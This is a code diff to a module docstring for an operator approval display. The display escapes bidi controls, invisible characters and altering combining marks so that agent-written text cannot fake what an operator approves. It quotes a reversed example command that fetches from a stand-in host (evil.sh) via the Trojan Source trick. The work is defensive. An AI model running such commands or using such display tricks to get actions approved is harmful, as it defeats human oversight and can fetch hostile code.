@@ -7,8 +7,10 @@ ones), and the invisible or blank characters of other categories (``affidavit.te
 U+034F, variation selectors, Hangul fillers, every space but U+0020) can make a string display
 as something else: ``U+202E`` turns ``bash -c 'hs.live lruc'`` around on screen (the "Trojan
 Source" trick, CVE-2021-42574), ``dry_run\\u034f`` looks like ``dry_run``.  Each one is shown as
-its escape (``\\u202e``) in a marked span instead, so nothing an agent writes can reorder, hide
-or fake what an operator approves.
+its escape (``\\u202e``) in a marked span instead, and so is a combining mark that changes its
+letter (``0`` + U+0338) or stacks past two: no control, invisible character or mark an agent
+writes can reorder, hide or fake what an operator approves (lookalike letters of other scripts
+and right-to-left letters remain the reader's to judge).
 """
 
 from __future__ import annotations
